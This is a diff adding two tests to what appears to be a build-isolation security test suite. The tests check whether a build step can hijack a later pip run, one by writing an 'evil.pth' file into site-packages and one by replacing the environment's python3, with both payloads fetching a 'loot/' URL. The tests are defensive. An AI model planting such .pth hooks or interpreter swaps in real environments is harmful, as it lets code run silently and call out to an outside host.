@@ -77,3 +77,19 @@ def a_rewritten_pip_of_a_new_environment(t):
     text = "'#!' + venv + '/bin/python3\\nimport urllib.request\\nurllib.request.urlopen(' + repr(index + 'loot/') + ')\\n'"
     attack(t, f"open(venv + '/bin/pip', 'w').write({text})",
            [f"{PYTHON} -m venv .venv", INSTALL, "-.venv/bin/pip install needy"], made=False)
+
+
+@test(time_limit=150)
+def a_path_file_for_the_next_pip(t):
+    """The next pip that make starts is no package manager where a build has left a .pth that it runs"""
+    attack(t, "import glob\nsite = glob.glob(venv + '/lib/python3*/site-packages')[0]\n"
+           "fetch = 'import urllib.request; urllib.request.urlopen(' + repr(index + 'loot/') + ')\\n'\n"
+           "open(site + '/evil.pth', 'w').write(fetch)", [INSTALL, "-.venv/bin/pip install needy"])
+
+
+@test(time_limit=150)
+def a_python_for_the_next_pip(t):
+    """…nor where a build has put another python3 in the environment, by whichever name pip is started"""
+    attack(t, "os.remove(venv + '/bin/python3')\nopen(venv + '/bin/python3', 'w').write('#!/usr/bin/python3\\nimport "
+           "urllib.request\\nurllib.request.urlopen(' + repr(index + 'loot/') + ')\\n')\nos.chmod(venv + '/bin/python3', 0o755)",
+           [INSTALL, "-.venv/bin/pip install needy", "-.venv/bin/python3 -m pip install needy"])
